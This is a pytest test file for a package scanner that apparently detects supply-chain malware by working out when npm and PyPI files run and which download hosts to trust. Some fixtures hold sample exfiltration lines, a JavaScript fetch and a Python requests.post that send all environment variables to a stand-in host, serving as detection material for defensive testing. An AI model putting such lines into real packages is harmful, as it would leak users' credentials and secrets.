"""When a package's files run, and where it may fetch from."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

import pytest

from adapters.sigil.local.analysis import facts_of
from adapters.sigil.local.code.facts import Behaviour, Fact
from adapters.sigil.local.material import Ecosystem
from adapters.sigil.local.phases.reach import Moment
from adapters.sigil.local.phases.scanned import Scanned
from adapters.sigil.local.phases.standing import Standing

Pack = Callable[..., Any]


@pytest.fixture
def scan(pack: Pack) -> Callable[..., Scanned]:
    def scanned(files: Mapping[str, Any], *arguments: Any) -> Scanned:
        package = pack(files, *arguments)
        return Scanned(package, facts_of(package.files), {})

    return scanned


def test_a_hooks_file_and_what_it_requires_run_at_installation(scan: Callable[..., Scanned]) -> None:
    """The file of a hook, what it requires, and what it starts run at installation; the rest does not."""
    scanned = scan(
        {
            "package.json": {"name": "a", "main": "index.js", "scripts": {"postinstall": "node scripts/x.js"}},
            "scripts/x.js": "require('./y'); require('child_process').spawn('node', ['scripts/z.js'])",
            "scripts/y.js": "require('../lib/deep')",
            "scripts/z.js": "1",
            "lib/deep.js": "1",
            "lib/other.js": "1",
            "index.js": "require('./lib/other')",
        }
    )

    assert scanned.installed == {"scripts/x.js", "scripts/y.js", "scripts/z.js", "lib/deep.js"}
    assert scanned.loaded == {"index.js", "lib/other.js"}


def test_manifest_says_what_is_loaded(scan: Callable[..., Scanned]) -> None:
    """Main, module and exports are entries, without main index.js; a command runs when somebody calls it."""
    scanned = scan(
        {
            "package.json": {
                "name": "a",
                "module": "m.mjs",
                "exports": {".": {"import": "./e.mjs"}},
                "bin": {"a": "cli.js"},
            },
            "m.mjs": "1",
            "e.mjs": "1",
            "cli.js": "1",
            "index.js": "1",
            "other.js": "1",
        }
    )

    assert scanned.loaded == {"m.mjs", "e.mjs", "index.js"}


@pytest.mark.parametrize(("archive", "runs"), [("sample-1.0.tar.gz", True), ("sample-1.0-py3-none-any.whl", False)])
def test_setup_runs_only_from_a_source_archive(scan: Callable[..., Scanned], archive: str, runs: bool) -> None:
    """A setup.py runs when a source archive is installed, with the modules that it imports; a wheel runs none."""
    scanned = scan(
        {"setup.py": "import tools.build\n", "tools/build.py": "x = 1\n", "sample/__init__.py": "x = 1\n"},
        Ecosystem.PYPI,
        archive,
    )

    assert (scanned.installed >= {"setup.py", "tools/build.py"}) is runs
    assert "sample/__init__.py" in scanned.loaded


@pytest.mark.parametrize("path", ["sample.pth", "sitecustomize.py", "sample-1.0.data/purelib/x.pth"])
def test_start_up_files_run_by_themselves(scan: Callable[..., Scanned], path: str) -> None:
    """What Python runs whenever it starts counts as running at installation, in wheels too."""
    scanned = scan({path: "import os\n", "sample/__init__.py": ""}, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl")

    assert scanned.moment(path) is Moment.INSTALL


def test_build_backend_of_the_package_runs_at_installation(scan: Callable[..., Scanned]) -> None:
    """A build backend that lies in the package itself runs at installation."""
    project = '[build-system]\nrequires = []\nbuild-backend = "own.backend:api"\nbackend-path = ["_build"]\n'

    scanned = scan({"pyproject.toml": project, "_build/own/backend.py": "x = 1\n"}, Ecosystem.PYPI, "sample-1.0.tar.gz")

    assert scanned.installed == {"_build/own/backend.py"}


def test_python_imports_are_followed(scan: Callable[..., Scanned]) -> None:
    """A package's `__init__` loads what it imports, relatively or by name."""
    scanned = scan(
        {
            "sample/__init__.py": "from .inner import x\nimport sample.named\n",
            "sample/inner.py": "x = 1\n",
            "sample/named.py": "x = 1\n",
            "sample/never.py": "x = 1\n",
        },
        Ecosystem.PYPI,
        "sample-1.0-py3-none-any.whl",
    )

    assert scanned.loaded >= {"sample/__init__.py", "sample/inner.py", "sample/named.py"}
    assert "sample/never.py" not in scanned.loaded


def test_only_what_happens_at_load_runs_at_load(made: Any, fact: Callable[..., Fact]) -> None:
    """A fact of a loaded file happens at load only where nobody needs to call it."""
    now, later = fact(Behaviour.SENDS), fact(Behaviour.SENDS, at_load=False)
    scanned = made({"index.js": (now, later), "other.js": (now,)})

    assert scanned.moment("index.js", now) is Moment.LOAD
    assert scanned.moment("index.js", later) is Moment.CALL
    assert scanned.moment("other.js", now) is Moment.CALL


def test_standing(scan: Callable[..., Scanned]) -> None:
    """Tests are set aside unless they run by themselves; large files on long lines are bundles."""
    scanned = scan(
        {
            "package.json": {"name": "a", "main": "dist/index.js", "scripts": {"postinstall": "node test/run.js"}},
            "dist/index.js": "a();" * 10_000,
            "test/run.js": "1",
            "test/other.js": "1",
            "lib/a.js": "1",
        }
    )

    assert {path: scanned.standing(path) for path in scanned.facts} == {
        "dist/index.js": Standing.BUNDLE,
        "test/run.js": Standing.CODE,
        "test/other.js": Standing.ASIDE,
        "lib/a.js": Standing.CODE,
    }


@pytest.mark.parametrize(
    ("address", "trusted"),
    [
        ("https://registry.npmjs.org/a/-/a-1.0.0.tgz", True),
        ("https://github.com/someone/sample/releases/download/v1/a.tgz", True),
        ("https://github.com/someone/other/releases/download/v1/a.tgz", True),
        ("https://raw.githubusercontent.com/someone/sample/main/a", True),
        ("https://github.com/else/sample/releases/download/v1/a.tgz", False),
        ("http://registry.npmjs.org/a/-/a-1.0.0.tgz", False),
        ("https://registry.npmjs.org.example.invalid/a", False),
        ("https://example.invalid/https://registry.npmjs.org/", False),
        ("", False),
    ],
)
def test_trusts_its_own_places(made: Any, address: str, trusted: bool) -> None:
    """A package is expected to fetch from its registry and its own repository's owner, over HTTPS."""
    assert made({}).trusts(address) is trusted


@pytest.mark.parametrize(
    "entry",
    [
        "const { start } = require('./inner')\nstart()\n",
        "const inner = require('./inner');inner.start();",
        "require('./inner').start()\n",
        "import { start } from './inner.js'\nstart().catch(() => {})\n",
    ],
)
def test_functions_called_at_the_margin_run_at_load(scan: Callable[..., Scanned], entry: str) -> None:
    """What an entry calls as soon as it is loaded happens at load, in the file that it comes from too."""
    inner = (
        "exports.start = () => fetch('https://x.example.invalid/', {method: 'POST', body: JSON.stringify(process.env)})"
    )
    scanned = scan({"package.json": {"name": "a", "main": "index.js"}, "index.js": entry, "inner.js": inner})
    _, sends = next(scanned.each_fact(Behaviour.SENDS))

    assert scanned.moment("inner.js", sends, called=True) is Moment.LOAD


def test_functions_called_inside_functions_do_not(scan: Callable[..., Scanned]) -> None:
    """What an entry calls only when it is called itself does not happen at load."""
    inner = (
        "exports.start = () => fetch('https://x.example.invalid/', {method: 'POST', body: JSON.stringify(process.env)})"
    )
    entry = "const { start } = require('./inner')\nexports.go = () => {\n  start()\n}\n"
    scanned = scan({"package.json": {"name": "a", "main": "index.js"}, "index.js": entry, "inner.js": inner})
    _, sends = next(scanned.each_fact(Behaviour.SENDS))

    assert scanned.moment("inner.js", sends, called=True) is Moment.CALL


def test_python_functions_called_at_the_margin_run_at_load(scan: Callable[..., Scanned]) -> None:
    """What a package's `__init__` calls happens when it is imported."""
    files = {
        "sample/__init__.py": "from .inner import go\ngo()\n",
        "sample/inner.py": "import os, requests\ndef go():\n"
        "    requests.post('https://x.example.invalid', data=dict(os.environ))\n",
    }
    scanned = scan(files, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl")
    _, sends = next(scanned.each_fact(Behaviour.SENDS))

    assert scanned.moment("sample/inner.py", sends, called=True) is Moment.LOAD


def test_a_manifest_names_the_project_too(pack: Pack) -> None:
    """Without a registry's word the repository that package.json names is the project's place, in short form too."""
    files = {
        "package.json": {"name": "a", "repository": "github:someone/sample", "homepage": "https://sample.example.org"}
    }
    scanned = Scanned(pack(files), {}, {})

    assert scanned.trusts("https://github.com/someone/sample/releases/download/v1/a")
    assert scanned.trusts("https://cdn.sample.example.org/a")
    assert not scanned.trusts("https://github.com/else/sample/releases/download/v1/a")
